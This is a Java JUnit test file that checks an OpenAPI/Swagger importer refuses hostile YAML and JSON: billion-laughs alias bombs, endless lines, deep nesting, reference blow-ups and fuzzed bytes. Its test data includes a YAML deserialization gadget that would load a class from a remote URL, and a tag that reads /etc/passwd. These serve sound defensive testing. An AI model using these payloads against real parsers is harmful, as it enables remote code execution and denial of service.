package dev.gatehouse.controlplane.openapi;

import static org.assertj.core.api.Assertions.assertThat;

import dev.gatehouse.definition.Problem;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Assertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class HostileDocumentsTest {

    private static final String HEAD = "swagger: '2.0'\ninfo: {title: t}\n";

    @Test
    void billionLaughsAreRefused() {
        StringBuilder yaml = new StringBuilder("a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
        for (int i = 1; i < 30; i++) {
            yaml.append("a").append(i).append(": &a").append(i).append(" [");
            yaml.append(("*a" + (i - 1) + ",").repeat(9)).append("]\n");
        }
        assertRefused(yaml.toString(), "with its aliases written out the document is larger than 6291456 bytes");
    }

    @Test
    void bigTextRepeatedByAliasIsRefused() {
        String yaml = "a: &a " + ("x".repeat(90_000) + "\n ").repeat(12) + "\nb: [*a, *a, *a, *a, *a, *a]\n";
        assertRefused(yaml, "with its aliases written out");
    }

    @ParameterizedTest
    @ValueSource(strings = {" ", "!", "\t", "%"})
    void oneEndlessLineIsRefusedBeforeItIsScanned(String one) {
        assertRefused("a: |\n " + one.repeat(3_000_000), "a line is longer than 100000 characters (line 2)");
    }

    @Test
    void aliasesCannotStackDepth() {
        StringBuilder yaml = new StringBuilder("a0: &a0 " + "[".repeat(50) + "]".repeat(50) + "\n");
        for (int i = 1; i < 50; i++) {
            yaml.append("a").append(i).append(": &a").append(i).append(" ").append("[".repeat(50));
            yaml.append("*a").append(i - 1).append("]".repeat(50)).append("\n");
        }
        assertRefused(yaml.toString(), "nested deeper than 100 levels");
    }

    @Test
    void aliasInsideItsOwnAnchorIsRefused() {
        assertRefused("a: &a [*a]", "stands inside its own anchor");
    }

    @Test
    void honestAliasesAndMergesWork() throws Exception {
        assertThat(YamlTree.parse("base: &b {x: 1, y: 2}\none: {<<: *b, y: 3}\ntwo: [*b, *b]")
                        .toString())
                .isEqualTo(
                        "{\"base\":{\"x\":1,\"y\":2},\"one\":{\"y\":3,\"x\":1},\"two\":[{\"x\":1,\"y\":2},{\"x\":1,\"y\":2}]}");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://x/']]]]",
                "a: !!java.io.File [/etc/passwd]",
                "a: !Sub '${x}'",
                "!!set {a, b}",
                "a: !!binary aGk=",
            })
    void tagsThatAreNoJsonTypeAreRefused(String yaml) {
        assertRefused(yaml, "is not supported");
    }

    @ParameterizedTest
    @CsvSource({"[,]", "'{\"a\":','}'"})
    void depthIsLimitedInBothFormats(String open, String close) {
        assertRefused(open.repeat(10_000), "");
        assertRefused(open.repeat(5_000) + (open.equals("[") ? "" : "1") + close.repeat(5_000), "");
        assertRefused("x: " + open.repeat(101) + (open.equals("[") ? "" : "1") + close.repeat(101), "nested deeper");
    }

    @ParameterizedTest
    @ValueSource(strings = {"{\"a\":1,\"a\":2}", "a: 1\na: 2", "200: a\n\"200\": b"})
    void namesAreUsedOnce(String text) {
        assertRefused(text, "uplicate");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"", "   ", "null", "7", "'text'", "[]", "{", "a: [", "\u0000", "{\"a\":1} x", "a: 1\n---\nb: 2"})
    void textThatIsNoDocumentIsRefused(String text) {
        assertThat(Imports.read(text, Imports.OPTIONS)).isInstanceOf(ImportResult.Rejected.class);
    }

    @Test
    void unreadableTextSaysSoInAmazonsWords() {
        assertThat(Imports.problems("a: ["))
                .singleElement()
                .extracting(Problem::message)
                .asString()
                .startsWith(OpenApiImport.UNREADABLE)
                .contains("line 1");
    }

    @Test
    void bytesThatAreNotUtf8AreRefused() {
        byte[] utf16 = (HEAD + "paths: {}").getBytes(StandardCharsets.UTF_16);

        assertThat(OpenApiImport.read(utf16, "api", Imports.OPTIONS)).isInstanceOf(ImportResult.Rejected.class);
    }

    @Test
    void byteOrderMarkIsSkipped() {
        assertThat(Imports.read("\uFEFF" + HEAD + "paths: {}", Imports.OPTIONS))
                .isInstanceOf(ImportResult.Imported.class);
    }

    @Test
    void sizeIsCheckedBeforeAnythingIsParsed() {
        byte[] tooLong = new byte[SafeDocument.MAX_BYTES + 1];

        assertThat(OpenApiImport.read(tooLong, "api", Imports.OPTIONS))
                .isInstanceOfSatisfying(
                        ImportResult.Rejected.class,
                        rejected -> assertThat(rejected.problems().get(0).message())
                                .contains("has 6291457 bytes; the limit is 6291456"));
    }

    @Test
    void hugeNumbersAndNamesAreRefused() {
        assertRefused("{\"a\":" + "9".repeat(5_000) + "}", "");
        assertRefused("? " + "n".repeat(5_000) + "\n: 1", "longer than 1024");
        assertThat(Imports.problems(HEAD + "x-amazon-apigateway-minimum-compression-size: 1e999999999\npaths: {}"))
                .extracting(Problem::message)
                .contains("must be a whole number from 0 to 10485760");
    }

    @Test
    void referencesCannotMultiplyTheWork() {
        StringBuilder yaml = new StringBuilder(HEAD + "responses:\n  r:\n    headers:\n");
        for (int i = 0; i < 5_000; i++) {
            yaml.append("      H").append(i).append(": {}\n");
        }
        yaml.append("paths:\n");
        for (int i = 0; i < 5_000; i++) {
            yaml.append("  /p").append(i).append(": {get: {responses: {200: {$ref: '#/responses/r'}}}}\n");
        }
        Assertions.assertTimeoutPreemptively(
                Duration.ofSeconds(30),
                () -> assertRefused(yaml.toString(), "with its references written out the document has more than"));
    }

    @Test
    void referencesInARowAreFollowedInTime() {
        StringBuilder yaml = new StringBuilder(HEAD + "responses:\n");
        for (int i = 0; i < 20_000; i++) {
            yaml.append("  r")
                    .append(i)
                    .append(": {$ref: '#/responses/r")
                    .append(i + 1)
                    .append("'}\n");
        }
        yaml.append("  r20000: {description: end}\npaths:\n");
        for (int i = 0; i < 5_000; i++) {
            yaml.append("  /p").append(i).append(": {get: {responses: {200: {$ref: '#/responses/r0'}}}}\n");
        }
        Assertions.assertTimeoutPreemptively(
                Duration.ofSeconds(30),
                () -> assertThat(Imports.read(yaml.toString(), Imports.OPTIONS)).isNotNull());
    }

    @Test
    void longPathsCannotGrowIntoMillionsOfResources() {
        StringBuilder yaml = new StringBuilder(HEAD + "paths:\n");
        for (int i = 0; i < 1_000; i++) {
            yaml.append("  /p").append(i).append("/a".repeat(400)).append(": {}\n");
        }
        assertRefused(yaml.toString(), "there are more than 10000 resources");
    }

    @Test
    void problemsAreCounted() {
        StringBuilder yaml = new StringBuilder(HEAD + "paths:\n");
        for (int i = 0; i < 1_000; i++) {
            yaml.append("  /p").append(i).append(": 7\n");
        }
        assertThat(Imports.problems(yaml.toString()))
                .hasSize(201)
                .last()
                .satisfies(problem -> assertThat(problem.message())
                        .isEqualTo("there are more problems than 200; the rest was not read"));
    }

    @Test
    void damagedDocumentsNeverThrow() {
        Random random = new Random(20_26);
        for (String name : List.of("swagger2.yaml", "openapi3.json")) {
            byte[] good =
                    Imports.text(Imports.CASES.resolve("accepted/" + name)).getBytes(StandardCharsets.UTF_8);
            for (int i = 0; i < 1_500; i++) {
                byte[] bad = good.clone();
                for (int j = random.nextInt(4); j >= 0; j--) {
                    bad[random.nextInt(bad.length)] = damage(random);
                }
                ImportResult result = OpenApiImport.read(bad, name, Imports.OPTIONS);
                result.fold(
                        imported ->
                                assertThat(imported.definition().resources()).isNotEmpty(),
                        rejected -> assertThat(rejected.problems()).isNotEmpty());
            }
        }
    }

    private static byte damage(Random random) {
        String likely = "{}[]:,\"'&*!|>-?#%@ \n\t0127aeE$/~.x\\";
        return (byte) (random.nextInt(10) == 0 ? random.nextInt(256) : likely.charAt(random.nextInt(likely.length())));
    }

    /** Also for values of the wrong type at every single place of a document. */
    @ParameterizedTest
    @ValueSource(strings = {"7", "\"text\"", "[]", "{}", "true", "null", "[{}]", "{\"$ref\":\"#/paths\"}"})
    void anyValueReplacedByAnyOtherNeverThrows(String other) throws Exception {
        for (String name : List.of("swagger2.yaml", "openapi3.json")) {
            var tree = SafeDocument.parse(Imports.text(Imports.CASES.resolve("accepted/" + name)));
            var replacement =
                    SafeDocument.parse(other.startsWith("7") || other.startsWith("\"") ? "[" + other + "]" : other);
            var value = replacement.isArray()
                            && replacement.size() == 1
                            && !replacement.get(0).isObject()
                    ? replacement.get(0)
                    : replacement;
            for (String text : Replacements.everywhere(tree, value)) {
                assertThat(Imports.read(text, Imports.OPTIONS)).isNotNull();
            }
        }
    }

    private static void assertRefused(String text, String why) {
        assertThat(Imports.read(text, Imports.OPTIONS)).isInstanceOf(ImportResult.Rejected.class);
        assertThat(Imports.problems(text)).anySatisfy(problem -> {
            assertThat(problem.isError()).isTrue();
            assertThat(problem.message()).contains(why);
        });
    }
}
